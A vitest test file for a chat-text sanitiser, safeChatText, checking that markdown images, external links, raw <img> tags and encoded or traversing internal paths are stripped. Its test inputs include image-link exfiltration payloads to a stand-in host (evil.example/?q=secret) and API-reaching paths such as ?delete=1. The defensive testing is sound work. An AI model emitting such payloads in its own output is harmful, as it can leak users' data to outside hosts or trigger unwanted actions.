import fc from "fast-check";
import { expect, it } from "vitest";
import { safeChatText } from "./safeChatText.ts";

it.each([
  ["**Two** fields:\n\n1. `Name`\n2. *Email*", "**Two** fields:\n\n1. `Name`\n2. *Email*"],
  ["![](https://evil.example/?q=secret)", ""],
  ["![pixel](https://evil.example/?q=secret) done", "pixel done"],
  ["![a][ref]\n\n[ref]: https://evil.example/x", "[a], [ref]"],
  ["see [here](https://evil.example/x) now", "see here now"],
  ["see [here](//evil.example/x)", "see here"],
  ["see [here](/\\evil.example/x)", "see here"],
  ["see [here](/api/projects?delete=1)", "see here"],
  ["see [here](/projects/../api/x)", "see here"],
  ["see [here](/./api/x)", "see here"],
  ["see [here](/%61pi/x)", "see here"],
  ["see [here](/API/x)", "see here"],
  ["see [your forms](/projects/a-1?tab=forms)", "see [your forms](/projects/a-1?tab=forms)"],
  ["[a [b] c](https://evil.example)", "[a [b] c] (evil.example)"],
  ["[x](\nhttps://evil.example)", "[x] (\nevil.example)"],
  ['[x](https://evil.example "title")', "x"],
  ["[![p](https://evil.example/p)](https://evil.example)", "p"],
  ["<https://evil.example/x>", "evil.example/x"],
  ["https://www.evil.example/x", "evil.example/x"],
  ["<img src=https://evil.example/x>done", "done"],
  ["!!![x][y]", "[x], [y]"],
  ["]https://(/projects/a)", "](/projects/a)"],
])("makes %j safe", (raw, safe) => {
  expect(safeChatText(raw)).toBe(safe);
});

it("leaves no picture, no markup and no address that could be opened, whatever the text", () => {
  const pieces = fc.constantFrom(
    "!",
    "[",
    "]",
    "(",
    ")",
    "](",
    "![",
    "]:",
    "][",
    "<",
    ">",
    "https",
    "://",
    "//evil.example",
    "/p",
    "\n",
    " ",
    "a",
    "www.",
    "\\",
  );
  fc.assert(
    fc.property(
      fc.array(pieces, { maxLength: 40 }).map((all) => all.join("")),
      (raw) => {
        const safe = safeChatText(raw);
        expect(safe).not.toMatch(/:\/\/|!\[|<[a-z/!?]|\]:|\]\[|\bwww\./i);
        for (const [, address] of safe.matchAll(/\]\(([^)]*)/g))
          expect(address).toMatch(/^\/(?!\/)[^\s\\]*$/);
      },
    ),
    { numRuns: 2000 },
  );
});

it("takes a time that grows with the length of the text alone", () => {
  const started = performance.now();
  for (const piece of ["[", "![", "](", "<", "<script>", "://", "a", "!", "[a](", "www.", "\n[a]:"]) {
    safeChatText(piece.repeat(100_000));
  }
  expect(performance.now() - started).toBeLessThan(3000);
});
